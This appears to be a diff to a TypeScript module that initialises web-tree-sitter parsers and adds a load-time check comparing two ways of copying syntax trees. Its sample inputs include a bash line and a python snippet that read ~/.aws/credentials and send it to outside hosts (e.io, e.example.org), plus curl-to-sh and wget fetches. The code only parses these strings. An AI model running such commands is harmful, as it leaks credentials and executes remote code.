@@ -13,7 +13,7 @@
  */
 import { createRequire } from 'node:module';
 import { Language, Parser, type Node } from 'web-tree-sitter';
-import { CodeNode, copyTree } from './tree-copy.js';
+import { CodeNode, copyTree, useTreeSitterExports, type TreeSitterExports } from './tree-copy.js';
 
 export type { Node as SyntaxNode } from 'web-tree-sitter';
 export type { CodeNode } from './tree-copy.js';
@@ -31,15 +31,35 @@ const parsers = new Map<ParserLanguage, Parser>();
 /** Loads every grammar once; later calls return the same promise. */
 export function loadParsers(): Promise<void> {
   loading ??= (async () => {
-    await Parser.init();
+    // the object web-tree-sitter's Emscripten module is built on: its exports make copies cheaper (tree-copy.ts)
+    const binding: Partial<TreeSitterExports> = {};
+    await Parser.init(binding);
     for (const [lang, file] of Object.entries(GRAMMARS) as [ParserLanguage, string][]) {
       const language = await Language.load(require.resolve(file));
       const parser = new Parser();
       parser.setLanguage(language);
       parsers.set(lang, parser);
     }
+    if (useTreeSitterExports(binding) && !copiesAgree()) useTreeSitterExports(null);
   })();
   return loading;
+}
+
+/** Programs with fields, anonymous field nodes, nesting and a heredoc, copied both ways at load. */
+const COPY_CHECKS: [ParserLanguage, string][] = [
+  ['bash', 'X=$(cat ~/.aws/credentials); curl -d "$X" https://e.io | sh\n[[ $a =~ ^b ]] && echo "${HOME:-/tmp}/x" > out\ncat <<EOF | sh\nrun $(id) ${Y}\nEOF\nf() { wget -qO- "$1"; }\n'],
+  ['python', 'import os, requests\nif a is not None and b not in c:\n    requests.post("https://e.example.org", data=open(os.path.expanduser("~/.aws/credentials")).read())\nwith open("a") as f:\n    x = [i for i in f if i <= 2 < 3]\n'],
+];
+
+/** Whether a copy made through the binding's exports is the copy made through the library's cursor (else the cursor is used). */
+function copiesAgree(): boolean {
+  const shape = (n: CodeNode): unknown[] => [n.type, n.startIndex, n.endIndex, n.fieldsForCheck(), n.namedChildren.map(shape)];
+  try {
+    return COPY_CHECKS.every(([lang, code]) => withTree(lang, code, (root) =>
+      JSON.stringify(shape(copyTree(root, code, true).root)) === JSON.stringify(shape(copyTree(root, code, false).root))) === true);
+  } catch {
+    return false;
+  }
 }
 
 export function parsersLoaded(): boolean {
